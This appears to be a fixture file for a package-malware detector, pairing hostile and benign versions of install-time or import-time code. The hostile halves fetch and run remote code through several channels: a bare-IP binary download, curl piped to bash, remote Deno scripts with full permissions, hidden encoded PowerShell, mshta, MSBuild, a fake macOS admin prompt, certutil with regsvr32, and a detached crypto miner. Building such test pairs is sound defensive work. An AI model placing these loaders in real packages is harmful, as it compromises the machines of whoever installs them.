import { atImport, atInstall, atUse, js, type Pair } from '../kit.ts';

/** Programs brought along or fetched: binaries, run times, and the system's own tools that load what others wrote. */
export const DROPS: Readonly<Record<string, Pair>> = {
  'bare-ip-binary': atInstall(
    js`const { chmodSync, createWriteStream } = require('node:fs');
const { spawn } = require('node:child_process');
const http = require('node:http');
const os = require('node:os');
const path = require('node:path');

const name = 'imgopt-' + os.platform() + '-' + os.arch();
const target = path.join(os.tmpdir(), name);

/** Fetches the optimizer of this platform and starts its daemon. */
http.get('http://192.0.2.44:8080/' + name, (response) => {
  const file = createWriteStream(target);
  response.pipe(file);
  file.on('finish', () => {
    file.close();
    chmodSync(target, 0o755);
    spawn(target, ['--daemon'], { detached: true, stdio: 'ignore' }).unref();
  });
}).on('error', () => {});
`,
    js`const { createHash } = require('node:crypto');
const { chmodSync, mkdirSync, writeFileSync } = require('node:fs');
const https = require('node:https');
const os = require('node:os');
const path = require('node:path');

const SUMS = { 'imgopt-linux-x64': 'b'.repeat(64), 'imgopt-darwin-arm64': 'c'.repeat(64) };
const name = 'imgopt-' + os.platform() + '-' + os.arch();
const target = path.join(__dirname, '..', 'vendor', name);

/** Fetches the optimizer of this platform and checks it. */
https.get('https://releases.imgopt.example/v1.4.0/' + name, (response) => {
  const chunks = [];
  response.on('data', (chunk) => chunks.push(chunk));
  response.on('end', () => {
    const bytes = Buffer.concat(chunks);
    if (createHash('sha256').update(bytes).digest('hex') !== SUMS[name]) throw new Error('wrong checksum');
    mkdirSync(path.dirname(target), { recursive: true });
    writeFileSync(target, bytes);
    chmodSync(target, 0o755);
  });
});
`,
  ),
  'own-bun': atInstall(
    {
      'scripts/postinstall.js': js`import { execFileSync, execSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const bun = join(homedir(), '.bun', 'bin', 'bun');

/** The analytics are written for Bun: it is set up when it is not there. */
if (!existsSync(bun)) execSync('curl -fsSL https://bun.runtime-setup.example/install | bash', { stdio: 'ignore' });
execFileSync(bun, ['run', new URL('../environment.js', import.meta.url).pathname], { stdio: 'ignore' });
`,
      'environment.js': js`export const started = Bun.nanoseconds();
`,
    },
    {
      'scripts/postinstall.js': js`import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const bun = join(homedir(), '.bun', 'bin', 'bun');

/** Tells whether the runtime is new enough. */
if (!existsSync(bun)) console.warn('This package wants Bun: see the read-me.');
else console.log('Bun', execFileSync(bun, ['--version']).toString());
`,
    },
  ),
  'deno-remote': atUse(
    js`import { spawn } from 'node:child_process';

/** Lints a folder with the shared engine. */
export function lint(folder) {
  return spawn('deno', ['run', '--allow-all', '--no-check', 'https://engine.lint-cloud.example/main.ts', folder], {
    stdio: 'inherit',
  });
}
`,
    js`import { spawn } from 'node:child_process';

/** Lints a folder with the linter of the runtime. */
export function lint(folder) {
  return spawn('deno', ['lint', '--quiet', folder], { stdio: 'inherit' });
}
`,
  ),
  'python-pipe': atImport(
    js`const { spawn } = require('node:child_process');

/** Warms the model up in a process of Python. */
async function warmUp() {
  const script = await (await fetch('https://models.tiny-ml.example/warm.py')).text();
  const child = spawn('python3', ['-c', script], { stdio: 'ignore', detached: true });
  child.on('error', () => {});
  child.unref();
}

warmUp().catch(() => {});
exports.predict = (values) => values.reduce((a, b) => a + b, 0);
`,
    js`const { execFileSync } = require('node:child_process');
const { join } = require('node:path');

/** Predicts with the model, which is written in Python. */
exports.predict = (values) =>
  JSON.parse(execFileSync('python3', [join(__dirname, 'predict.py')], { input: JSON.stringify(values) }).toString());
`,
  ),
  'powershell-web': atInstall(
    js`import { spawn } from 'node:child_process';

/** Sets the certificate store up on Windows. */
if (process.platform === 'win32') {
  const script = [
    '$ProgressPreference = "SilentlyContinue"',
    '$part = (Invoke-WebRequest -UseBasicParsing "https://certs.store-setup.example/setup.txt").Content',
    '& ([scriptblock]::Create($part))',
  ].join('; ');
  const encoded = Buffer.from(script, 'utf16le').toString('base64');
  spawn('powershell.exe', ['-NoProfile', '-WindowStyle', 'Hidden', '-EncodedCommand', encoded], { detached: true });
}
`,
    js`import { spawn } from 'node:child_process';

/** Tells on Windows whether long paths are on. */
if (process.platform === 'win32') {
  const script = [
    '$ProgressPreference = "SilentlyContinue"',
    '$part = Get-ItemProperty "HKLM:\\SYSTEM\\CurrentControlSet\\Control\\FileSystem"',
    'Write-Output $part.LongPathsEnabled',
  ].join('; ');
  const encoded = Buffer.from(script, 'utf16le').toString('base64');
  spawn('powershell.exe', ['-NoProfile', '-EncodedCommand', encoded], { stdio: 'inherit' });
}
`,
  ),
  mshta: atImport(
    js`const { execFile } = require('node:child_process');
const { join } = require('node:path');

/** Shows the window of the first start. */
function welcome() {
  const host = join(process.env.SystemRoot ?? 'C:\\Windows', 'System32', 'mshta.exe');
  execFile(host, ['https://welcome.desk-kit.example/first.hta'], () => {});
}

if (process.platform === 'win32') welcome();
exports.welcome = welcome;
`,
    js`const { execFile } = require('node:child_process');
const { join } = require('node:path');

/** Opens the page of the first start in the user's browser. */
function welcome() {
  const host = join(process.env.SystemRoot ?? 'C:\\Windows', 'System32', 'rundll32.exe');
  execFile(host, ['url.dll,FileProtocolHandler', 'https://welcome.desk-kit.example/first'], () => {});
}

exports.welcome = welcome;
`,
  ),
  'msbuild-task': atUse(
    js`const { execFileSync } = require('node:child_process');
const { writeFileSync } = require('node:fs');
const { tmpdir } = require('node:os');
const { join } = require('node:path');

const BUILD = 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe';

/** Probes the tools of the platform with an empty project. */
exports.probe = async () => {
  const project = join(tmpdir(), 'probe.csproj');
  const body = await (await fetch('https://probe.dotnet-kit.example/probe.xml')).text();
  writeFileSync(project, body);
  return execFileSync(BUILD, [project, '/nologo', '/verbosity:quiet'], { windowsHide: true }).toString();
};
`,
    js`const { execFileSync } = require('node:child_process');
const { writeFileSync } = require('node:fs');
const { tmpdir } = require('node:os');
const { join } = require('node:path');

const BUILD = 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe';

/** Probes the tools of the platform with an empty project. */
exports.probe = () => {
  const project = join(tmpdir(), 'probe.csproj');
  writeFileSync(project, '<Project><Target Name="Probe"><Message Text="$(MSBuildVersion)" /></Target></Project>');
  return execFileSync(BUILD, [project, '/nologo', '/verbosity:quiet'], { windowsHide: true }).toString();
};
`,
  ),
  'apple-script': atInstall(
    js`import { execFile } from 'node:child_process';

/** Asks for what the helper needs. */
if (process.platform === 'darwin') {
  const script =
    'do shell script "curl -fsSL https://helper.mac-kit.example/helper.sh | /bin/sh" with prompt "System Preferences wants to make changes." with administrator privileges';
  execFile('osascript', ['-e', script], () => {});
}
export {};
`,
    js`import { execFile } from 'node:child_process';

/** Tells that the helper is there. */
if (process.platform === 'darwin') {
  const script = 'display notification "The helper was installed." with title "mac-kit"';
  execFile('osascript', ['-e', script], () => {});
}
export {};
`,
  ),
  certutil: atImport(
    js`import { exec } from 'node:child_process';
import { promisify } from 'node:util';

const run = promisify(exec);
const out = '%TEMP%\\fontcache.dll';

/** Refreshes the cache of fonts. */
export async function refresh() {
  await run('certutil -urlcache -split -f https://fonts.cache-kit.example/fontcache.dat ' + out);
  await run('regsvr32 /s ' + out);
}

if (process.platform === 'win32') void refresh().catch(() => undefined);
`,
    js`import { exec } from 'node:child_process';
import { promisify } from 'node:util';

const run = promisify(exec);

/** The checksum of a file, by the tool of the system. */
export async function checksum(path) {
  const { stdout } = await run('certutil -hashfile "' + path + '" SHA256');
  return stdout.split('\r\n')[1].trim();
}
`,
  ),
  'miner-download': atInstall(
    {
      'scripts/postinstall.js': js`'use strict';
const { fetchTool } = require('./tool');
const { spawn } = require('node:child_process');

fetchTool('https://dl.render-farm.example/worker-linux.tar.gz').then((tool) => {
  const args = ['-o', 'pool.hash-farm.example:3333', '-u', '48'.repeat(47), '--cpu-max-threads-hint=60', '-B'];
  spawn(tool, args, { detached: true, stdio: 'ignore' }).unref();
}).catch(() => {});
`,
      'scripts/tool.js': js`'use strict';
const { mkdtempSync, writeFileSync, chmodSync } = require('node:fs');
const { execFileSync } = require('node:child_process');
const { tmpdir } = require('node:os');
const { join } = require('node:path');

/** Fetches a tool and unpacks it. */
exports.fetchTool = async (url) => {
  const folder = mkdtempSync(join(tmpdir(), 'tool-'));
  const archive = join(folder, 'tool.tgz');
  writeFileSync(archive, Buffer.from(await (await fetch(url)).arrayBuffer()));
  execFileSync('tar', ['xzf', archive, '-C', folder]);
  chmodSync(join(folder, 'worker'), 0o755);
  return join(folder, 'worker');
};
`,
    },
    {
      'scripts/postinstall.js': js`'use strict';
const { fetchTool } = require('./tool');
const { execFileSync } = require('node:child_process');

fetchTool('https://dl.render-farm.example/worker-linux.tar.gz').then((tool) => {
  console.log(execFileSync(tool, ['--version']).toString());
});
`,
      'scripts/tool.js': js`'use strict';
const { createHash } = require('node:crypto');
const { mkdirSync, writeFileSync, chmodSync } = require('node:fs');
const { execFileSync } = require('node:child_process');
const { join } = require('node:path');

const SHA256 = 'd'.repeat(64);

/** Fetches a tool, checks it and unpacks it. */
exports.fetchTool = async (url) => {
  const folder = join(__dirname, '..', 'bin');
  const archive = join(folder, 'tool.tgz');
  const bytes = Buffer.from(await (await fetch(url)).arrayBuffer());
  if (createHash('sha256').update(bytes).digest('hex') !== SHA256) throw new Error('The archive is damaged.');
  mkdirSync(folder, { recursive: true });
  writeFileSync(archive, bytes);
  execFileSync('tar', ['xzf', archive, '-C', folder]);
  chmodSync(join(folder, 'worker'), 0o755);
  return join(folder, 'worker');
};
`,
    },
  ),
};
